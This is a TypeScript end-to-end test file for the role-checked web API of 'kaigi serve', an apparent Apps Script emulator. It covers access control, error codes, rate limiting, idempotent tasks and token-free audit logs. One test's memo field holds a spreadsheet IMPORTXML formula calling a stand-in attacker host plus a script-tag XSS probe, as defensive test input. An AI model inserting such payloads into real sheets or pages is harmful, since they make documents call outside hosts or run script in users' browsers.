// The web API end to end: `kaigi serve` over real HTTP, each call following Apps Script's 302 as a client does.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoTrigger } from '../../src/core/demo-data.js';
import { apiClients, exportTabs } from './saved-workbook.js';
import { kaigi, type Served, serve } from './serve-process.js';

const ROLES = ['viewer', 'worker', 'coordinator', 'admin'] as const;
type Role = (typeof ROLES)[number];

let dir: string;
let book: string;
let served: Served;
let exec: string;
const tokens = {} as Record<Role | 'burst', string>;

// POST with the token in the body; fetch follows the 302 to the echo URL with a GET, as curl -L does.
async function post(route: string, token: string | null, body: unknown, raw?: string): Promise<any> {
  const res = await fetch(`${exec}?path=${encodeURIComponent(route)}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: raw ?? JSON.stringify(token ? { token, ...(body as object) } : body),
  });
  expect(res.status).toBe(200);
  expect(res.redirected).toBe(true);
  return res.json();
}

// GET with the token in the query: Apps Script leaves no other way for a GET.
async function get(route: string, token: string | null, query: Record<string, string> = {}): Promise<any> {
  const q = new URLSearchParams({ path: route, ...query, ...(token ? { token } : {}) });
  const res = await fetch(`${exec}?${q}`);
  expect(res.status).toBe(200);
  return res.json();
}

async function until<T>(fn: () => Promise<T>, ok: (v: T) => boolean, ms = 150_000): Promise<T> {
  const stop = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (ok(v) || Date.now() > stop) return v;
    await new Promise((r) => setTimeout(r, 500));
  }
}

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kaigi-serve-api-'));
  book = path.join(dir, 'api.xlsx');
  // The demo team and one decided discussion, then a client per role.
  expect(kaigi(['run', '--demo', '--workbook', book]).status).toBe(0);
  const made = await apiClients(book, [
    ...ROLES.map((role) => ({ name: `c-${role}`, role })),
    { name: 'burst', role: 'viewer' },
  ]);
  ROLES.forEach((role, i) => (tokens[role] = made[i]));
  tokens.burst = made[ROLES.length];
  // One-shot triggers may fire up to 2 s late here instead of 3 minutes, so the test waits seconds, not minutes.
  // Answers at a tenth of Apps Script's pacing: the routes and roles, not the seconds, are the point here.
  served = await serve(book, '--after-max-ms', '2000', '--time-scale', '0.1');
  exec = `${served.url}/exec`;
}, 180_000);

afterAll(async () => {
  if (served) await served.stop('SIGTERM');
  fs.rmSync(dir, { recursive: true, force: true });
});

// Each answer comes when the wall clock reaches the execution's end on Apps Script's modelled clock (about 1–2 s a
// call: runtime/web/exec.ts), so the tests that make many calls have minutes.
describe('the REST API on kaigi serve', () => {
  it('lets each role call exactly the routes of its role table', async () => {
    const status = await get('/status', tokens.viewer);
    expect(status).toMatchObject({ status: 200, state: expect.stringMatching(/^(idle|busy)$/) });
    expect(status.agents).toHaveLength(14);
    for (const a of status.agents) expect(['idle', 'busy', 'error']).toContain(a.state ?? a.status);
    expect(status.budget.tokens).toBeGreaterThan(0);
    expect(status.queue).toBeDefined();
    // An empty body: an allowed role gets past the role check to the schema (400), a refused one gets 403; nothing
    // is written either way.
    const table: { route: string; method: 'GET' | 'POST'; roles: Role[] }[] = [
      { method: 'GET', route: '/status', roles: [...ROLES] },
      { method: 'GET', route: '/tasks/Q-1', roles: [...ROLES] },
      { method: 'GET', route: '/rooms', roles: [...ROLES] },
      { method: 'POST', route: '/tasks', roles: ['coordinator', 'admin'] },
      { method: 'POST', route: '/tasks/Q-1/result', roles: ['worker', 'coordinator', 'admin'] },
      { method: 'POST', route: '/objections', roles: ['coordinator', 'admin'] },
      { method: 'POST', route: '/escalations/DISC-2026-01-01-001', roles: ['coordinator', 'admin'] },
      { method: 'POST', route: '/rooms', roles: ['worker', 'coordinator', 'admin'] },
      { method: 'POST', route: '/rooms/x/clear', roles: ['coordinator', 'admin'] },
    ];
    // The calls go side by side, eighteen at a time (Apps Script runs up to 30 executions at once): each answer
    // waits for its execution's end on the modelled clock, so one after another they would take a minute.
    const calls = table.flatMap(({ route, method, roles }) => ROLES.map((role) => ({ route, method, roles, role })));
    for (let i = 0; i < calls.length; i += 18)
      await Promise.all(
        calls.slice(i, i + 18).map(async ({ route, method, roles, role }) => {
          const a = method === 'GET' ? await get(route, tokens[role]) : await post(route, tokens[role], {});
          if (roles.includes(role)) expect(a.status, `${role} ${method} ${route}`).not.toBe(403);
          else
            expect(a, `${role} ${method} ${route}`).toMatchObject({
              status: 403,
              error: { code: 'forbidden' },
            });
        }),
      );
  }, 300_000);

  it('answers 401, 400 naming the field, 413 and 429 in the web API’s error format', async () => {
    expect(await get('/status', null)).toMatchObject({ status: 401, error: { code: 'unauthorized' } });
    expect(await get('/status', 'kaigi_not-a-token')).toMatchObject({ status: 401 });
    expect(await post('/tasks', null, {}, '{"token": "x", broken')).toMatchObject({
      status: 400,
      error: { code: 'invalid_json' },
    });
    const missing = await post('/tasks', tokens.coordinator, { type: 'kpi_decline', context: {} });
    expect(missing.status).toBe(400);
    expect(JSON.stringify(missing.error.details)).toContain('target_user_id');
    const big = await post('/tasks', tokens.coordinator, { ...demoTrigger(), context: { memo: 'x'.repeat(100_001) } });
    expect(big).toMatchObject({ status: 413, error: { code: 'payload_too_large' } });
    // Settings api.rate_limit_per_minute is 60: past 60 calls of one token within a minute, calls are refused. An
    // answer comes after its execution's time on Apps Script's clock, so one client in sequence never makes 60 a
    // minute: the calls go side by side, in waves under the 30 executions Apps Script runs at once. On a busy machine a
    // minute may turn before a wave fills it, so the waves go on (up to 40) until one minute has seen more than 60.
    const answers: number[] = [];
    for (let wave = 0; wave < 40 && !answers.includes(429); wave++)
      answers.push(
        ...(await Promise.all(Array.from({ length: 15 }, () => get('/status', tokens.burst)))).map((a) => a.status),
      );
    expect(answers.slice(0, 30).every((s) => s === 200)).toBe(true);
    expect(answers.filter((s) => s !== 200 && s !== 429)).toEqual([]);
    expect(answers).toContain(429);
    // Another client is not slowed by it.
    expect((await get('/status', tokens.viewer)).status).toBe(200);
  }, 300_000);

  it('starts a discussion once per idempotency key, runs it to DECIDED on the real clock, and takes a result report', async () => {
    const trigger = {
      ...demoTrigger(),
      context: { ...demoTrigger().context, memo: '=IMPORTXML("http://evil.example/","//a") <script>alert(1)</script>' },
    };
    const first = await post('/tasks', tokens.coordinator, { ...trigger, idempotency_key: 'crm-42' });
    expect(first).toMatchObject({ status: 202, task_id: expect.stringMatching(/^Q-\d+$/) });
    expect(first.discussion_id).toMatch(/^DISC-\d{4}-\d{2}-\d{2}-\d{3,}$/);
    const again = await post('/tasks', tokens.coordinator, { ...trigger, idempotency_key: 'crm-42' });
    expect(again).toEqual(first);

    const decided = await until(
      () => get(`/tasks/${first.discussion_id}`, tokens.viewer),
      (v) => v.state === 'DECIDED',
    );
    expect(decided.state).toBe('DECIDED');
    expect(decided.trigger.context.memo).toBe(trigger.context.memo);
    expect(decided.phases).toHaveLength(6);
    expect(decided.decision.decision_id).toBeTruthy();
    expect(decided.orders.length).toBeGreaterThan(0);
    expect(decided.orders.every((o: { status: string }) => o.status === 'PENDING')).toBe(true);
    expect(decided.execution_status).toBe('PENDING');
    // The task id answers too.
    expect((await get(`/tasks/${first.task_id}`, tokens.viewer)).discussion_id).toBe(first.discussion_id);

    const report = await post(`/tasks/${first.discussion_id}/result`, tokens.worker, {
      status: 'ACKNOWLEDGED',
      report: 'Scheduled the 1on1 <b>tomorrow</b>',
      by: 'someone-else',
    });
    expect(report).toMatchObject({ status: 200, success: true, execution_status: 'ACKNOWLEDGED' });
    const after = await get(`/tasks/${first.discussion_id}`, tokens.viewer);
    expect(after.execution_status).toBe('ACKNOWLEDGED');
    expect(after.orders.map((o: { status: string }) => o.status)).toEqual(decided.orders.map(() => 'ACKNOWLEDGED'));
    expect(after.orders[0].last_report).toBe('Scheduled the 1on1 <b>tomorrow</b>');
  }, 200_000);

  it('saves on SIGTERM a workbook with an API Log row per call, the client as actor, no token, and an intact audit', async () => {
    expect(await served.stop('SIGTERM')).toBe(0);
    // The calls' rows wait in Script Properties until a tick appends them to the tab (docs/web-cost.md).
    expect(kaigi(['tick', '--workbook', book]).status).toBe(0);
    // The tabs as `kaigi export` prints them, read in one opening of the saved file.
    const tabs = await exportTabs(book, ['API Log', 'Audit', 'Queue', 'Orders', 'Discussion Log']);
    const log = tabs['API Log'];
    expect(log.length).toBeGreaterThan(100);
    expect(log.some((r: { call: string; status: number }) => r.call === 'POST /tasks' && r.status === 202)).toBe(true);
    expect(log.some((r: { status: number }) => r.status === 429)).toBe(true);
    // A refused token writes no row of its own (issue 22): its minute is one `unauthenticated` summary row, once a
    // later authenticated call or tick writes it.
    expect(log.some((r: { status: number; client: string }) => r.status === 401 && r.client === '')).toBe(false);
    const audit = tabs.Audit;
    // The queued discussion names the client that asked; each order report names the client that reported.
    expect(audit.some((r) => r.event === 'enqueue' && r.actor === 'api:c-coordinator')).toBe(true);
    expect(audit.filter((r) => r.event === 'order_report').every((r) => r.actor === 'api:c-worker')).toBe(true);
    expect(audit.some((r) => r.event === 'order_report')).toBe(true);
    for (const rows of Object.values(tabs)) {
      const text = JSON.stringify(rows);
      for (const t of Object.values(tokens)) expect(text).not.toContain(t);
    }
    const verify = kaigi(['verify-audit', '--workbook', book]);
    expect(verify.stdout).toMatch(/audit chain intact/);
    expect(verify.status).toBe(0);
    served = undefined as unknown as Served;
  }, 180_000);
});
